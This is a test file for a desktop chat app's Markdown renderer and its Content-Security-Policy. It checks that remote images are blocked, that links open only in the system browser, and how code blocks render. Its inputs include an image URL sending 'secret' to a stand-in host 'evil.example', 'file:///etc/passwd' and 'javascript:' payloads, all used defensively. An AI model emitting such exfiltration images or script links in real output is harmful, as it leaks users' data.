import { fireEvent, render, screen } from '@testing-library/react';
import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { Markdown } from './Markdown';

// A 1×1 PNG: an image that travels inside the text and loads nothing.
const DOT = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';

// What Wails' runtime would do with BrowserOpenURL: recorded instead.
let opened: ReturnType<typeof vi.fn>;
beforeEach(() => {
  opened = vi.fn();
  (window as unknown as { runtime: unknown }).runtime = { BrowserOpenURL: opened };
});
afterEach(() => {
  delete (window as unknown as { runtime?: unknown }).runtime;
});

describe('Markdown images', () => {
  it('shows a remote image as a placeholder that loads nothing', () => {
    const { container } = render(<Markdown text={'Look: ![the chart](http://evil.example:8080/c.png?d=secret "Chart")'} />);
    expect(container.querySelector('img')).toBeNull();
    expect(container.innerHTML).not.toContain('src="http');
    const ph = screen.getByTestId('remote-image');
    expect(ph.textContent).toContain('Image not loaded: the chart');
    expect(opened).not.toHaveBeenCalled();
  });

  it('opens the remote image in the system browser only when asked', () => {
    render(<Markdown text={'![x](https://evil.example/c.png?d=secret)'} />);
    fireEvent.click(screen.getByRole('button', { name: 'Open image from evil.example' }));
    expect(opened).toHaveBeenCalledExactlyOnceWith('https://evil.example/c.png?d=secret');
  });

  it.each([
    ['a relative path', '/assets/x.png'],
    ['a file URL', 'file:///etc/passwd'],
    ['protocol-relative', '//evil.example/x.png'],
    ['javascript', 'javascript:alert(1)'],
  ])('never loads %s either, and offers no button for it', (_, src) => {
    const { container } = render(<Markdown text={`![x](${src})`} />);
    expect(container.querySelector('img')).toBeNull();
    expect(screen.getByTestId('remote-image')).toBeTruthy();
    expect(screen.queryByRole('button', { name: /Open image/ })).toBeNull();
  });

  it('keeps an inline data: image', () => {
    const { container } = render(<Markdown text={`A dot: ![dot](${DOT})`} />);
    const img = container.querySelector('img');
    expect(img?.getAttribute('src')).toBe(DOT);
    expect(img?.getAttribute('alt')).toBe('dot');
    expect(screen.queryByTestId('remote-image')).toBeNull();
  });

  it('does not keep data: URLs that are not images', () => {
    const { container } = render(<Markdown text={'![x](data:text/html;base64,PHNjcmlwdD4=)'} />);
    expect(container.querySelector('img')).toBeNull();
  });
});

describe('Markdown code blocks', () => {
  it.each([
    { name: 'a named language', text: '```python\nprint("a very long line that scrolls sideways")\n```', lang: 'python', region: 'Code, python' },
    { name: 'none: highlight.js\'s guess is not shown', text: '```\nSELECT id, name FROM users WHERE id = 1;\n```', lang: '', region: 'Code' },
    { name: 'none yet (streaming)', text: '```\nplain text\n```', streaming: true, lang: '', region: 'Code' },
  ])('have a bar with the language and Copy above the code, and scroll by keyboard: $name', ({ text, streaming, lang, region }) => {
    const { container } = render(<Markdown text={text} streaming={streaming} />);
    const block = container.querySelector('.code-block')!;
    const [head, pre] = Array.from(block.children);
    // Copy is in the bar above the code, not laid over its first line.
    expect(head?.className).toBe('code-head');
    expect(head?.querySelector('.code-lang')?.textContent).toBe(lang);
    expect(head?.querySelector('button')?.getAttribute('aria-label')).toBe('Copy code');
    expect(pre?.tagName).toBe('PRE');
    expect(pre?.querySelector('button')).toBeNull();
    // A long line scrolls sideways: the code is a focusable, named region (axe scrollable-region-focusable).
    expect(screen.getByRole('region', { name: region })).toBe(pre);
    expect(pre?.getAttribute('tabindex')).toBe('0');
  });
});

describe('Markdown links', () => {
  it('open in the system browser on click; the window does not navigate', () => {
    render(<Markdown text={'See [the docs](https://example.com/docs?q=1).'} />);
    const link = screen.getByRole('link', { name: 'the docs' });
    expect(link.getAttribute('target')).toBeNull();
    const notPrevented = fireEvent.click(link);
    expect(notPrevented).toBe(false);
    expect(opened).toHaveBeenCalledExactlyOnceWith('https://example.com/docs?q=1');
  });

  it('are not followed when they are not http(s) or mailto', () => {
    location.hash = '#/chat';
    const { container } = render(<Markdown text={'[settings](#/settings) [run](javascript:alert(1))'} />);
    for (const a of container.querySelectorAll('a')) {
      expect(fireEvent.click(a)).toBe(false);
    }
    expect(location.hash).toBe('#/chat');
    expect(opened).not.toHaveBeenCalled();
  });

  it('around an image: the button opens the image only', () => {
    render(<Markdown text={'[![x](https://img.example/i.png)](https://site.example/)'} />);
    fireEvent.click(screen.getByRole('button', { name: 'Open image from img.example' }));
    expect(opened).toHaveBeenCalledExactlyOnceWith('https://img.example/i.png');
  });
});

// The window's policy (index.html) is the second line: even an <img> with a
// remote src, from any component, is refused by the webview.
describe('Content-Security-Policy', () => {
  const html = readFileSync(resolve(process.cwd(), 'index.html'), 'utf8');
  const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html);
  const policy = new Map(
    (meta?.[1] ?? '').split(';').map((d) => d.trim().split(/\s+/)).filter((d) => d[0]).map((d) => [d[0]!, d.slice(1)]),
  );

  it('is set in index.html', () => {
    expect(meta).not.toBeNull();
    expect(policy.get('default-src')).toEqual(["'self'"]);
  });

  it.each(['img-src', 'media-src', 'connect-src', 'script-src', 'style-src', 'font-src', 'object-src'])(
    '%s allows no remote host',
    (d) => {
      const sources = policy.get(d);
      expect(sources, `${d} is set`).toBeDefined();
      for (const s of sources ?? []) {
        expect(["'self'", "'none'", "'unsafe-inline'", "'unsafe-eval'", 'data:', 'blob:']).toContain(s);
      }
    },
  );

  it('frames only the MCP Apps sandbox proxy on loopback (another origin than the window)', () => {
    expect(policy.get('frame-src')).toEqual(['http://127.0.0.1:*']);
  });

  it('runs no inline script and loads images only from the app or data:', () => {
    expect(policy.get('script-src')).not.toContain("'unsafe-inline'");
    expect(policy.get('img-src')).toEqual(["'self'", 'data:', 'blob:']);
  });
});
